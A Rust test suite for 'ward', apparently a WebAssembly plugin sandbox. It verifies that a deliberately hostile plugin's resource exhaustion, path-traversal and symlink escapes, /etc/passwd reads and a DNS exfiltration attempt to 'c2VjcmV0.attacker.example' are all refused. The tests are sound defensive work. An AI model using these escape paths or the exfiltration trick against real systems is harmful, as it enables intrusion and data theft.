//! Containment: each hostile behaviour ends its own call with a clear,
//! specific error, and a normal call to another plugin still succeeds.

use std::time::Duration;

use rmcp::model::{CallToolRequestParams, ClientRequest, Request};
use rmcp::service::PeerRequestOptions;
use serde_json::{json, Value};

use crate::util::*;

/// A directory with `hostile` (under `policy`, if any) and `hello` beside it.
fn hostile(policy: Option<&str>) -> Dir {
    let dir = Dir::new();
    dir.plugin("hostile", "hostile").plugin("hello", "hello");
    if let Some(policy) = policy {
        dir.policy("hostile", policy);
    }
    dir
}

/// Calls a hostile tool and returns its error text, then checks that another
/// plugin still answers.
async fn contained(ward: &Ward, tool: &str, args: Value) -> String {
    let result = ward.call(&format!("hostile_{tool}"), args).await;
    assert!(
        is_error(&result),
        "{tool} should fail, got: {}",
        text(&result)
    );
    still_serving(ward).await;
    text(&result)
}

async fn still_serving(ward: &Ward) {
    let ok = ward.call("hello_greet", json!({"name": "after"})).await;
    assert!(
        text(&ok).contains("after"),
        "another plugin stopped answering: {ok:?}"
    );
}

#[tokio::test]
async fn a_memory_bomb_hits_the_memory_limit() {
    let dir = hostile(Some("[limits]\nmemory = \"16MiB\"\n"));
    let ward = Ward::start(dir.path()).await;
    let message = contained(&ward, "alloc", json!({"mb": 200})).await;
    assert!(
        message.contains("memory limit of 16 MiB exceeded"),
        "{message}"
    );
    // Within the limit it works, and the cost shows the peak.
    let ok = ward.call("hostile_alloc", json!({"mb": 4})).await;
    assert!(!is_error(&ok), "{}", text(&ok));
    let peak = ok.meta.as_ref().unwrap().0["ward/cost"]["peakMemoryBytes"]
        .as_u64()
        .unwrap();
    assert!(peak >= 4 << 20, "peak {peak}");
}

#[tokio::test]
async fn one_buffer_passed_many_times_cannot_make_the_host_copy_more_than_the_guest_holds() {
    // 64 headers that all point at one 1 MiB value: the guest spends 1 MiB,
    // a host that copied every entry would spend 64 MiB (and a million
    // entries, terabytes; wasmtime's own bound is 128 MiB per host call). A
    // host call copies at most the guest's memory limit, here 16 MiB.
    let dir = hostile(Some("[limits]\nmemory = \"16MiB\"\n"));
    let ward = Ward::start(dir.path()).await;
    let message = contained(&ward, "alias_bomb", json!({"entries": 64, "kib": 1024})).await;
    assert!(
        message.contains("passed more than 16 MiB to one host call")
            && message.contains("hostile.toml"),
        "{message}"
    );
    // Within the bound the call reaches wasi:http, which answers itself.
    let ok = ward
        .call("hostile_alias_bomb", json!({"entries": 4, "kib": 1}))
        .await;
    assert_eq!(text(&ok), "fields.from-list returned fields");
}

#[tokio::test]
async fn an_infinite_loop_runs_out_of_fuel() {
    let dir = hostile(Some("[limits]\nfuel = 50_000_000\n"));
    let ward = Ward::start(dir.path()).await;
    let message = contained(&ward, "spin", json!({})).await;
    assert!(
        message.contains("fuel exhausted after 50000000 units"),
        "{message}"
    );
    assert!(message.contains("limits.fuel"), "{message}");
}

#[tokio::test]
async fn an_infinite_loop_hits_the_wall_clock() {
    let dir = hostile(Some(
        "[limits]\nfuel = 1_000_000_000_000_000\ntimeout = \"300ms\"\n",
    ));
    let ward = Ward::start(dir.path()).await;
    let message = contained(&ward, "spin", json!({})).await;
    assert!(message.contains("timed out after 300ms"), "{message}");
}

#[tokio::test]
async fn a_guest_blocked_in_a_host_call_hits_the_wall_clock() {
    let dir = hostile(Some("[limits]\ntimeout = \"300ms\"\n"));
    let ward = Ward::start(dir.path()).await;
    let started = std::time::Instant::now();
    let message = contained(&ward, "sleep", json!({"ms": 60_000})).await;
    assert!(message.contains("timed out after 300ms"), "{message}");
    assert!(started.elapsed() < Duration::from_secs(20));
}

#[tokio::test]
async fn a_cancelled_call_is_interrupted_and_answers_nothing() {
    let dir = hostile(None);
    let mut ward = Ward::start(dir.path()).await;
    // Loading the plugin was a call too: wait for the next one.
    let started = "call started plugin=hostile";
    let loads = ward.log().matches(started).count();
    let request = ClientRequest::CallToolRequest(Request::new(
        CallToolRequestParams::new("hostile_spin").with_arguments(obj(json!({}))),
    ));
    let handle = ward
        .client
        .peer()
        .send_cancellable_request(request, PeerRequestOptions::no_options())
        .await
        .unwrap();
    // Cancel only once the call is running.
    wait_log_count(&ward, started, loads + 1, &[]).await;
    handle.cancel(Some("test".into())).await.unwrap();
    ward.wait_log("cancelled by the client").await;
    still_serving(&ward).await;
    // Nothing was sent for the cancelled request.
    while let Ok(note) = ward.notes.try_recv() {
        assert!(!matches!(note, Note::Progress(_)), "{note:?}");
    }
}

#[tokio::test]
async fn deep_recursion_is_a_clean_stack_overflow() {
    let ward = Ward::start(hostile(None).path()).await;
    // Rust guests keep frames with addressable locals on their own stack in
    // linear memory; overflowing it is an out-of-bounds access below address
    // 0. Frames on wasm's native stack overflow into wasmtime's guard.
    let message = contained(&ward, "recurse", json!({"depth": 100_000_000u64})).await;
    assert!(
        message.contains("stack overflow") || message.contains("stack overflowing"),
        "{message}"
    );
}

#[tokio::test]
async fn an_output_flood_hits_the_output_limit() {
    let dir = hostile(Some("[limits]\nmax-output = \"64KiB\"\n"));
    let ward = Ward::start(dir.path()).await;
    let message = contained(&ward, "flood", json!({"bytes": 1 << 20})).await;
    assert!(
        message.contains(
            "exceeds the output limit of 64 KiB; raise `limits.max-output` in hostile.toml"
        ),
        "{message}"
    );
}

#[tokio::test]
async fn a_panic_is_reported_with_its_message() {
    let ward = Ward::start(hostile(None).path()).await;
    let message = contained(&ward, "panic", json!({})).await;
    assert!(
        message.contains("hostile plugin panics on purpose"),
        "{message}"
    );
}

#[tokio::test]
async fn printed_output_goes_to_the_log_capped() {
    let ward = Ward::start(hostile(None).path()).await;
    let ok = ward.call("hostile_spam", json!({"lines": 100_000})).await;
    assert_eq!(text(&ok), "ok");
    let log = ward.wait_log("more bytes dropped").await;
    assert!(
        log.contains("guest output: hostile stdout line 0"),
        "{}",
        &log[..log.len().min(2000)]
    );
    assert!(
        log.contains("more bytes dropped"),
        "the capture was not capped"
    );
    still_serving(&ward).await;
}

#[tokio::test]
async fn no_policy_means_no_files_no_env_no_network() {
    let ward = Ward::start(hostile(None).path()).await;
    let message = contained(&ward, "read_file", json!({"path": "/etc/passwd"})).await;
    assert!(!message.contains("root:"), "{message}");
    contained(&ward, "list_dir", json!({"path": "/"})).await;
    let env = ward.call("hostile_env", json!({"name": "HOME"})).await;
    assert_eq!(text(&env), "unset");
    let env = ward.call("hostile_env", json!({"name": "PATH"})).await;
    assert_eq!(text(&env), "unset");
    contained(&ward, "http_get", json!({"url": "http://example.com/"})).await;
    contained(&ward, "tcp_connect", json!({"addr": "127.0.0.1:9"})).await;
}

#[tokio::test]
async fn files_stay_inside_their_grants() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.txt"), "top secret").unwrap();
    let data = tempfile::tempdir().unwrap();
    std::fs::write(data.path().join("hello.txt"), "hi there").unwrap();
    std::fs::create_dir(data.path().join("sub")).unwrap();
    std::os::unix::fs::symlink(
        outside.path().join("secret.txt"),
        data.path().join("link.txt"),
    )
    .unwrap();
    std::os::unix::fs::symlink(outside.path(), data.path().join("linkdir")).unwrap();
    let rw = tempfile::tempdir().unwrap();
    let policy = format!(
        "[[fs]]\nhost = \"{}\"\nguest = \"/data\"\nmode = \"ro\"\n\n[[fs]]\nhost = \"{}\"\nguest = \"/out\"\nmode = \"rw\"\n",
        data.path().display(),
        rw.path().display()
    );
    let ward = Ward::start(hostile(Some(&policy)).path()).await;
    let ok = ward
        .call("hostile_read_file", json!({"path": "/data/hello.txt"}))
        .await;
    assert_eq!(text(&ok), "hi there");
    let escapes = [
        "/data/../secret.txt",
        "/data/sub/../../secret.txt",
        "/data/link.txt",
        "/data/linkdir/secret.txt",
        "/data/hello.txt/",
        "/etc/passwd",
        &format!("{}/secret.txt", outside.path().display()),
    ];
    for path in escapes {
        let message = contained(&ward, "read_file", json!({"path": path})).await;
        assert!(!message.contains("top secret"), "{path}: {message}");
    }
    // ro is read-only; rw is writable.
    contained(
        &ward,
        "write_file",
        json!({"path": "/data/new.txt", "content": "x"}),
    )
    .await;
    assert!(!data.path().join("new.txt").exists());
    contained(
        &ward,
        "write_file",
        json!({"path": "/data/hello.txt", "content": "overwritten"}),
    )
    .await;
    assert_eq!(
        std::fs::read_to_string(data.path().join("hello.txt")).unwrap(),
        "hi there"
    );
    let ok = ward
        .call(
            "hostile_write_file",
            json!({"path": "/out/new.txt", "content": "written"}),
        )
        .await;
    assert!(!is_error(&ok), "{}", text(&ok));
    assert_eq!(
        std::fs::read_to_string(rw.path().join("new.txt")).unwrap(),
        "written"
    );
    contained(
        &ward,
        "write_file",
        json!({"path": "/out/../escape.txt", "content": "x"}),
    )
    .await;
}

#[tokio::test]
async fn open_handles_are_capped_per_call() {
    let data = tempfile::tempdir().unwrap();
    std::fs::write(data.path().join("f.txt"), "x").unwrap();
    let policy = format!(
        "[[fs]]\nhost = \"{}\"\nguest = \"/data\"\n",
        data.path().display()
    );
    let ward = Ward::start(hostile(Some(&policy)).path()).await;
    let result = ward
        .call(
            "hostile_open_many",
            json!({"path": "/data/f.txt", "count": 50_000}),
        )
        .await;
    let opened = result
        .structured_content
        .as_ref()
        .map(|s| s["opened"].as_u64().unwrap());
    match opened {
        Some(n) => assert!(n < 50_000, "opened {n} handles"),
        None => assert!(is_error(&result), "{result:?}"),
    }
    still_serving(&ward).await;
}

#[tokio::test]
async fn only_granted_env_vars_with_literal_values() {
    let ward = Ward::start(hostile(Some("[env]\nGREETING = \"bonjour\"\n")).path()).await;
    assert_eq!(
        text(&ward.call("hostile_env", json!({"name": "GREETING"})).await),
        "bonjour"
    );
    assert_eq!(
        text(&ward.call("hostile_env", json!({"name": "HOME"})).await),
        "unset"
    );
}

/// A one-shot HTTP server on loopback answering 200 "pong".
async fn http_server() -> u16 {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        while let Ok((mut socket, _)) = listener.accept().await {
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                let _ = socket.read(&mut buf).await;
                let _ = socket
                    .write_all(
                        b"HTTP/1.1 200 OK\r\ncontent-length: 4\r\nconnection: close\r\n\r\npong",
                    )
                    .await;
            });
        }
    });
    port
}

#[tokio::test]
async fn http_goes_only_where_the_allow_list_says() {
    let (literal, named) = (http_server().await, http_server().await);
    // 127.0.0.1:LITERAL is listed as an address: allowed. `localhost:NAMED` is
    // listed by name, but the name resolves to loopback: refused.
    let policy = format!(
        "[network]\nallow = [\"127.0.0.1:{literal}\", \"localhost:{named}\", \"*.example.org\"]\n"
    );
    let ward = Ward::start(hostile(Some(&policy)).path()).await;
    let ok = ward
        .call(
            "hostile_http_get",
            json!({"url": format!("http://127.0.0.1:{literal}/ping")}),
        )
        .await;
    assert!(!is_error(&ok), "{}", text(&ok));
    assert_eq!(text(&ok), "200\npong");
    let message = contained(
        &ward,
        "http_get",
        json!({"url": format!("http://localhost:{named}/ping")}),
    )
    .await;
    assert!(message.contains("DestinationIpProhibited"), "{message}");
    let message = contained(&ward, "http_get", json!({"url": "http://example.com/"})).await;
    assert!(message.contains("HttpRequestDenied"), "{message}");
    // A listed port does not open other ports of the same address.
    let message = contained(
        &ward,
        "http_get",
        json!({"url": format!("http://127.0.0.1:{named}/")}),
    )
    .await;
    assert!(message.contains("HttpRequestDenied"), "{message}");
    // Sockets follow the same list.
    let ok = ward
        .call(
            "hostile_tcp_connect",
            json!({"addr": format!("127.0.0.1:{literal}")}),
        )
        .await;
    assert_eq!(text(&ok), "connected");
    contained(
        &ward,
        "tcp_connect",
        json!({"addr": format!("127.0.0.1:{named}")}),
    )
    .await;
}

#[tokio::test]
async fn invalid_policies_keep_only_that_plugin_out() {
    let dir = Dir::new();
    dir.plugin("hello", "hello")
        .plugin("hello", "typo")
        .policy("typo", "[limits]\nmemroy = \"64MiB\"\ntimeout = \"soon\"\n")
        .plugin("hello", "missing")
        .policy(
            "missing",
            "[[fs]]\nhost = \"./does-not-exist\"\nguest = \"/data\"\n",
        )
        .plugin("hostile", "lister")
        .policy("lister", "[env]\nHOSTILE_PANIC_ON_LIST = \"1\"\n");
    let ward = Ward::start(dir.path()).await;
    assert_eq!(ward.tool_names().await, vec!["hello_greet"]);
    let log = ward.wait_log("lister.wasm").await;
    let log = if log.contains("missing.toml") {
        log
    } else {
        ward.wait_log("missing.toml").await
    };
    let log = if log.contains("typo.toml") {
        log
    } else {
        ward.wait_log("typo.toml").await
    };
    assert!(
        log.contains("typo.toml") && log.contains("limits.memroy"),
        "{log}"
    );
    assert!(log.contains("limits.timeout"), "{log}");
    assert!(
        log.contains("missing.toml") && log.contains("does-not-exist"),
        "{log}"
    );
    assert!(
        log.contains("lister.wasm") && log.contains("panics while listing"),
        "{log}"
    );
    still_serving(&ward).await;
}

/// Issue 11, item 7: grants are opened once, at load, and every call gets
/// those same directories. With nested grants (rw `w`, ro `w/pub`), one call
/// replaces `pub` by a symlink; the next calls must still see the directory
/// granted at load through `/pub`, not where the symlink points (on the main
/// of the issue, `/pub` then listed the host's root).
#[tokio::test]
async fn a_symlink_swapped_into_one_grant_does_not_redirect_another() {
    let root = tempfile::tempdir().unwrap();
    let w = root.path().join("w");
    std::fs::create_dir_all(w.join("pub")).unwrap();
    std::fs::create_dir_all(w.join("deep")).unwrap();
    std::fs::create_dir(root.path().join("outside")).unwrap();
    std::fs::write(root.path().join("outside/secret.txt"), "top secret").unwrap();
    let policy = format!(
        "[[fs]]\nhost = \"{w}\"\nguest = \"/w\"\nmode = \"rw\"\n\n\
         [[fs]]\nhost = \"{w}/pub\"\nguest = \"/pub\"\n\n\
         [[fs]]\nhost = \"{w}/deep\"\nguest = \"/deep\"\n",
        w = w.display()
    );
    let ward = Ward::start(hostile(Some(&policy)).path()).await;
    for (path, target) in [
        ("/w/pub", "../outside"),
        ("/w/deep", "../../../../../../../../../.."),
    ] {
        let swapped = ward
            .call(
                "hostile_symlink_swap",
                json!({"path": path, "target": target}),
            )
            .await;
        assert!(!is_error(&swapped), "{}", text(&swapped));
    }
    assert!(std::fs::symlink_metadata(w.join("pub"))
        .unwrap()
        .file_type()
        .is_symlink());

    // Later calls: /pub and /deep are the (now removed) directories granted
    // at load, so they are empty, whatever the symlinks point to.
    for dir in ["/pub", "/deep"] {
        let listed = ward.call("hostile_list_dir", json!({"path": dir})).await;
        let listed = text(&listed);
        assert!(
            !listed.contains("secret.txt") && !listed.contains("etc"),
            "{dir} leads outside its grant: {listed}"
        );
    }
    let message = contained(&ward, "read_file", json!({"path": "/pub/secret.txt"})).await;
    assert!(!message.contains("top secret"), "{message}");
    let message = contained(&ward, "read_file", json!({"path": "/deep/etc/passwd"})).await;
    assert!(!message.contains("root:"), "{message}");
}

/// Issue 11, item 1: no grant reaches ward's own state. A grant that covers,
/// is, or lies inside the compiled-artifact cache, that covers or is the
/// plugin directory, the HTTP token file or ward's executable, is refused at
/// load with the policy file and key named; the other plugins serve, and a
/// subdirectory of the plugin directory (the `files` example's `./data`) is
/// still a valid grant.
#[tokio::test]
async fn grants_over_wards_own_files_are_refused_at_load() {
    let keep = tempfile::tempdir().unwrap();
    let base = keep.path().canonicalize().unwrap();
    let cache = base.join("state/cache");
    std::fs::create_dir_all(cache.join("sub")).unwrap();
    std::fs::create_dir(base.join("secrets")).unwrap();
    let token = base.join("secrets/token");
    std::fs::write(&token, "s3cret-token\n").unwrap();
    let exe = std::path::Path::new(ward_bin()).canonicalize().unwrap();
    let exe_dir = exe.parent().unwrap();

    let dir = Dir::new();
    let plugins = dir.path().canonicalize().unwrap();
    std::fs::create_dir(dir.path().join("data")).unwrap();
    std::fs::write(dir.path().join("data/note.txt"), "granted").unwrap();
    let grant = |host: &std::path::Path| {
        format!(
            "[[fs]]\nhost = \"{}\"\nguest = \"/x\"\nmode = \"rw\"\n",
            host.display()
        )
    };
    dir.plugin("hello", "hello")
        .plugin("hostile", "covers")
        .policy("covers", &grant(&base.join("state")))
        .plugin("hostile", "iscache")
        .policy("iscache", &grant(&cache))
        .plugin("hostile", "inside")
        .policy("inside", &grant(&cache.join("sub")))
        .plugin("hostile", "plugdir")
        .policy(
            "plugdir",
            "[[fs]]\nhost = \".\"\nguest = \"/x\"\nmode = \"rw\"\n",
        )
        .plugin("hostile", "token")
        .policy("token", &grant(&base.join("secrets")))
        .plugin("hostile", "exe")
        .policy("exe", &grant(exe_dir))
        .plugin("hostile", "data")
        .policy("data", "[[fs]]\nhost = \"./data\"\nguest = \"/data\"\n");
    let mut cmd = serve_command(dir.path());
    cmd.arg("--cache-dir")
        .arg(&cache)
        .args(["--http", "127.0.0.1:0", "--stdio", "--auth-token-file"])
        .arg(&token)
        .env_remove("WARD_AUTH_TOKEN");
    let ward = Ward::start_command(cmd, Era::Legacy("2025-11-25")).await;

    let refused = [
        (
            "covers",
            format!(
                "covers ward's compiled-artifact cache {}; grant a narrower directory",
                cache.display()
            ),
        ),
        (
            "iscache",
            format!("is ward's compiled-artifact cache {}", cache.display()),
        ),
        (
            "inside",
            format!(
                "lies inside ward's compiled-artifact cache {}",
                cache.display()
            ),
        ),
        (
            "plugdir",
            format!("is the plugin directory {}", plugins.display()),
        ),
        (
            "token",
            format!("covers the HTTP token file {}", token.display()),
        ),
        (
            "exe",
            format!("covers ward's own executable {}", exe.display()),
        ),
    ];
    for (name, says) in &refused {
        let log = ward.wait_log(&format!("{name}.toml: fs[0].host: ")).await;
        let line = log
            .lines()
            .find(|l| l.contains(&format!("{name}.toml: fs[0].host: ")))
            .unwrap();
        assert!(
            line.contains(says.as_str()),
            "{name}: expected {says:?} in:\n{line}"
        );
    }
    let tools = ward.tool_names().await;
    for (name, _) in &refused {
        assert!(
            !tools.iter().any(|t| t.starts_with(&format!("{name}_"))),
            "{name} was loaded: {tools:?}"
        );
    }
    assert!(tools.contains(&"hello_greet".to_string()), "{tools:?}");
    let read = ward
        .call("data_read_file", json!({"path": "/data/note.txt"}))
        .await;
    assert_eq!(text(&read), "granted");
    assert_eq!(std::fs::read_to_string(&token).unwrap(), "s3cret-token\n");
}

/// Issue 11, item 5: a network grant is not a grant to query the resolver.
/// A name outside `network.allow` is `access-denied` without a lookup (no
/// data leaks in DNS queries, no map of internal names), and a granted name's
/// answers are classified like a connect's: loopback only when listed.
#[tokio::test]
async fn name_lookups_reach_the_resolver_only_for_granted_names() {
    let dir = Dir::new();
    dir.plugin("hostile", "hostile")
        .policy("hostile", "[network]\nallow = [\"api.example.com:443\"]\n")
        .plugin("hostile", "named")
        .policy("named", "[network]\nallow = [\"localhost:8080\"]\n")
        .plugin("hostile", "listed")
        .policy(
            "listed",
            "[network]\nallow = [\"localhost:8080\", \"127.0.0.1:8080\", \"[::1]:8080\"]\n",
        )
        .plugin("hello", "hello");
    let ward = Ward::start(dir.path()).await;

    // Data smuggled in a query name, and a name the host resolves from
    // /etc/hosts: neither is granted, so neither reaches a resolver.
    let leak = contained(
        &ward,
        "resolve",
        json!({"name": "c2VjcmV0.attacker.example"}),
    )
    .await;
    assert!(leak.ends_with("failed: access-denied"), "{leak}");
    let probe = contained(&ward, "resolve", json!({"name": "localhost"})).await;
    assert!(probe.ends_with("failed: access-denied"), "{probe}");
    let log = ward.wait_log("c2VjcmV0.attacker.example").await;
    assert!(
        log.contains("network.allow") && log.contains("hostile.toml"),
        "{log}"
    );

    // Granted by name, but it resolves to loopback, which is not listed.
    let result = ward
        .call("named_resolve", json!({"name": "localhost"}))
        .await;
    assert!(is_error(&result), "{}", text(&result));
    assert!(
        text(&result).ends_with("failed: access-denied"),
        "{}",
        text(&result)
    );
    ward.wait_log("named.toml").await;

    // Granted, and its loopback addresses are listed: answered.
    let result = ward
        .call("listed_resolve", json!({"name": "LOCALHOST."}))
        .await;
    assert!(!is_error(&result), "{}", text(&result));
    assert!(
        text(&result)
            .lines()
            .all(|a| a == "127.0.0.1" || a == "::1"),
        "{}",
        text(&result)
    );
    assert!(text(&result).contains("127.0.0.1"), "{}", text(&result));
    still_serving(&ward).await;
}

/// A loopback listener that counts the connections it accepts.
async fn counting_listener() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let accepted = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let count = accepted.clone();
    tokio::spawn(async move {
        while let Ok((socket, _)) = listener.accept().await {
            count.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            drop(socket);
        }
    });
    (port, accepted)
}

/// HTTPS goes to the address ward checked, as plain HTTP does: a granted
/// name that resolves to loopback (not listed) is refused before any
/// connection, with the same error for both schemes (issue 11, item 5).
#[tokio::test]
async fn https_to_a_granted_name_on_loopback_is_refused_like_http() {
    let (port, accepted) = counting_listener().await;
    let policy = format!("[network]\nallow = [\"localhost:{port}\"]\n");
    let ward = Ward::start(hostile(Some(&policy)).path()).await;
    let http = contained(
        &ward,
        "http_get",
        json!({"url": format!("http://localhost:{port}/")}),
    )
    .await;
    let https = contained(
        &ward,
        "http_get",
        json!({"url": format!("https://localhost:{port}/")}),
    )
    .await;
    assert!(http.contains("DestinationIpProhibited"), "{http}");
    assert_eq!(http, https);
    assert_eq!(
        accepted.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "something connected"
    );
    let log = ward.wait_log("127.0.0.1").await;
    assert!(log.contains(&format!("localhost:{port}")), "{log}");
}

/// Every network refusal says whose it was and how to allow it: the plugin,
/// its policy file and the key `network.allow` (issue 15).
#[tokio::test]
async fn network_refusals_name_the_plugin_and_the_key() {
    let (port, accepted) = counting_listener().await;
    let ward =
        Ward::start(hostile(Some("[network]\nallow = [\"api.example.com:443\"]\n")).path()).await;
    contained(&ward, "http_get", json!({"url": "http://example.com/"})).await;
    let log = ward.wait_log("example.com:80").await;
    let line = log.lines().find(|l| l.contains("example.com:80")).unwrap();
    assert!(line.contains("hostile"), "{line}");
    assert!(
        line.contains("add \"example.com:80\" to `network.allow` in hostile.toml"),
        "{line}"
    );
    contained(
        &ward,
        "tcp_connect",
        json!({"addr": format!("127.0.0.1:{port}")}),
    )
    .await;
    let needle = format!("127.0.0.1:{port}");
    let log = ward.wait_log(&needle).await;
    let line = log.lines().find(|l| l.contains(&needle)).unwrap();
    assert!(
        line.contains(&format!(
            "add \"127.0.0.1:{port}\" to `network.allow` in hostile.toml"
        )),
        "{line}"
    );
    assert_eq!(
        accepted.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "something connected"
    );
}

/// Issue 11, item 3: `ward serve` on `dir` with at most `fds` open files,
/// hard limit included, so the attack below exhausts them on any machine.
async fn start_with_fd_limit(dir: &std::path::Path, fds: u32) -> Ward {
    let serve = serve_command(dir);
    let mut cmd = tokio::process::Command::new("sh");
    cmd.arg("-c")
        .arg(format!("ulimit -n {fds} 2>/dev/null; exec \"$0\" \"$@\""))
        .arg(serve.as_std().get_program())
        .args(serve.as_std().get_args());
    for (key, value) in serve.as_std().get_envs() {
        if let Some(value) = value {
            cmd.env(key, value);
        }
    }
    cmd.kill_on_drop(true);
    Ward::start_command(cmd, Era::Legacy("2025-11-25")).await
}

/// Waits until ward's log holds `needle` `n` times, or any of `or`.
async fn wait_log_count(ward: &Ward, needle: &str, n: usize, or: &[&str]) -> String {
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    loop {
        let log = ward.log();
        if log.matches(needle).count() >= n || or.iter().any(|o| log.contains(o)) {
            return log;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "ward never logged {needle:?} {n} times; log:\n{log}"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

/// Issue 11, item 3 (measured on the day of filing): 45 concurrent calls each
/// holding 500 sockets took every descriptor of the process, and another
/// plugin's `files_read` failed with "Too many open files". Host handles are
/// budgeted per plugin and for the process, with a reserve for ward.
#[tokio::test]
async fn a_plugin_holding_handles_cannot_make_another_plugins_file_open_fail() {
    let data = tempfile::tempdir().unwrap();
    std::fs::write(data.path().join("f.txt"), "still readable").unwrap();
    let grant = format!(
        "[[fs]]\nhost = \"{}\"\nguest = \"/data\"\n",
        data.path().display()
    );
    let dir = hostile(Some(&format!(
        "[limits]\ntimeout = \"120s\"\n[network]\nallow = [\"127.0.0.1:1\"]\n{grant}"
    )));
    dir.plugin("files", "files").policy("files", &grant);
    let ward = std::sync::Arc::new(start_with_fd_limit(dir.path(), 8192).await);
    let mut holders = tokio::task::JoinSet::new();
    let ended = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    for i in 0..45 {
        let (ward, ended) = (ward.clone(), ended.clone());
        // Sockets and files alike are host descriptors.
        let args = match i % 3 {
            0 => json!({"count": 500, "path": "/data/f.txt", "ms": 120_000}),
            _ => json!({"count": 500, "ms": 120_000}),
        };
        holders.spawn(async move {
            let result = ward.try_call("hostile_hold", args).await;
            ended.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            result
        });
    }
    // Every call holds what it could open, or ended (a call that opens past
    // its own cap traps).
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    loop {
        let holding = ward.log().matches("guest: holding").count();
        if holding + ended.load(std::sync::atomic::Ordering::SeqCst) >= 45 {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "{}", ward.log());
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let read = ward
        .call("files_read", json!({"path": "/data/f.txt"}))
        .await;
    assert!(!is_error(&read), "{}", text(&read));
    assert!(text(&read).contains("still readable"), "{}", text(&read));
    still_serving(&ward).await;
    holders.abort_all();
}

/// Issue 11, item 3 (measured on the day of filing): 270 sleeping calls of one
/// plugin took all 256 instances of the pool, and `hello_greet` failed with
/// "maximum concurrent limit of 256 for component instances reached". A plugin
/// holds at most its share of the pool; its further calls wait their turn.
#[tokio::test]
async fn a_plugin_filling_the_instance_pool_cannot_make_another_plugins_call_fail() {
    let dir = hostile(Some("[limits]\nconcurrency = 1024\ntimeout = \"120s\"\n"));
    let ward = std::sync::Arc::new(Ward::start(dir.path()).await);
    let mut nappers = tokio::task::JoinSet::new();
    for _ in 0..300 {
        let ward = ward.clone();
        nappers.spawn(async move { ward.try_call("hostile_nap", json!({"ms": 120_000})).await });
    }
    // Either the pool is full (calls fail) or hostile's calls queue.
    wait_log_count(
        &ward,
        "guest: napping",
        300,
        &["concurrent limit", "waits its turn"],
    )
    .await;
    let ok = ward.call("hello_greet", json!({"name": "beside"})).await;
    assert!(text(&ok).contains("beside"), "{ok:?}");
    nappers.abort_all();
}
